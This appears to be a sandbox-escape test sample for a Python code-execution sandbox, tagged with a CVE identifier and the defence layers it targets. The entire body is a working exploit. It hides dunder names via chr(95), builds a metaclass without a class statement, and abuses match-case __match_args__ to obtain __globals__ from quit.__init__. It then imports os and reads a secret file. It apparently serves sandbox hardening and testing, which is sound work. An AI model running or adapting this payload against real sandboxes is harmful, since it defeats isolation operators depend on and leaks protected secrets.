# class: attribute access without a dot
# technique: the same with no class statement and no name in the text
# advisory: CVE-2026-49444
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
def kind(x):
    return classmethod(lambda c: c).__get__(x)()
kind_of_kinds = kind(int)
under = chr(95) * 2
def name(*parts):
    return "".join([under, *parts, under])
made = kind_of_kinds("Meta", (kind_of_kinds,), {name("instance", "check"): lambda cls, value: True})
Reader = made("Reader", (), {name("match", "_args"): (name("glo", "bals"),)})
match quit.__init__:
    case Reader(g):
        pass
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
